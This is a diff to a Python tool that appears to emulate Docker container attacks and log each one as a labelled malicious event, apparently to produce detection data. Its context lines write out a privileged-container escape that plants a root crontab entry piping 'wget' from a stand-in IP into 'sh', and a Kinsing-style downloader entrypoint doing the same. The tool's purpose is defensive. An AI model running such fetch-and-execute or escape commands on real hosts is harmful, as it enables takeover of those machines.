@@ -24,6 +24,8 @@ from pathlib import Path
 from typing import IO, Annotated, Any
 from urllib.parse import urlsplit
 
+import docker
+import docker.errors
 import typer
 
 IMAGE = "local/bb:1"
@@ -64,11 +66,10 @@ class Emulator:
         self.tmpdirs: list[str] = []
         self.run_id = secrets.token_hex(3)
         self.actions = 0
+        self.errors: dict[str, str] = {}
 
     # ---- plumbing ----------------------------------------------------------------------------
     def ensure_image(self) -> None:
-        import docker.errors
-
         try:
             self.client.images.get(self.image)
         except docker.errors.ImageNotFound:
@@ -79,6 +80,8 @@ class Emulator:
 
     def label(self, scenario: str, procedure: str, step: str, container: Any, exec_id: str | None, command: list[str],
               **extra: Any) -> None:
+        if container.id in self.errors:
+            extra["error"] = self.errors[container.id]
         rec = {"time": _now(), "container": container.id, "container_name": container.name, "exec_id": exec_id, "step": step,
                "scenario": scenario, "procedure": procedure, "malicious": True, "command": command, **extra}
         self.out.write(json.dumps(rec, separators=(",", ":")) + "\n")
@@ -89,7 +92,12 @@ class Emulator:
         ctr = self.client.containers.create(self.image, cmd, name=f"{name}-{self.run_id}", network_mode="none", detach=True,
                                             labels={EMU_LABEL: self.run_id, **(labels or {})}, **kw)
         self.created.append(ctr.id)
-        ctr.start()
+        try:
+            ctr.start()
+        except docker.errors.APIError as exc:
+            # e.g. a privileged container where the runtime may not grant all capabilities: the create is in the
+            # daemon's log all the same, so it is labelled, with the error
+            self.errors[ctr.id] = str(exc.explanation or exc)
         return ctr
 
     def exec(self, ctr: Any, cmd: list[str], *, user: str = "", privileged: bool = False, detach: bool = False) -> tuple[str, int | None]:
@@ -132,14 +140,16 @@ class Emulator:
         cmd = ["sh", "-c", "echo '* * * * * root wget -q -O - http://198.51.100.23/cron.sh | sh' >> /host/crontab"]
         esc = self.run("escape", cmd, privileged=True, volumes={host_dir: {"bind": "/host", "mode": "rw"}})
         self.label(sc, proc, "escape to host", esc, None, cmd, privileged=True, binds=[f"{host_dir}:/host"])
-        esc.wait(timeout=30)
+        if esc.id not in self.errors:
+            esc.wait(timeout=30)
 
     def kinsing(self) -> None:
         # busybox has no bash: the same entrypoint through sh
         cmd = ["-c", "apt-get update && apt-get install -y wget cron; wget -q -O - http://203.0.113.66/d.sh | sh"]
         ctr = self.run("ubuntu", cmd, entrypoint=["sh"])
         self.label("kinsing", "S0599", "create container with downloader entrypoint", ctr, None, ["sh", *cmd])
-        ctr.wait(timeout=30)
+        if ctr.id not in self.errors:
+            ctr.wait(timeout=30)
 
 
 def emulate(client: Any, scenario: str, out: IO[str]) -> int:
@@ -173,9 +183,6 @@ def emulate_command(
     if not is_local(url) and not allow_remote:
         typer.echo(f"error: {url} is not a local daemon; refusing (use --allow-remote to run against it anyway)", err=True)
         raise typer.Exit(2)
-    import docker
-    import docker.errors
-
     try:
         client = docker.DockerClient(base_url=url, timeout=60)
         client.ping()
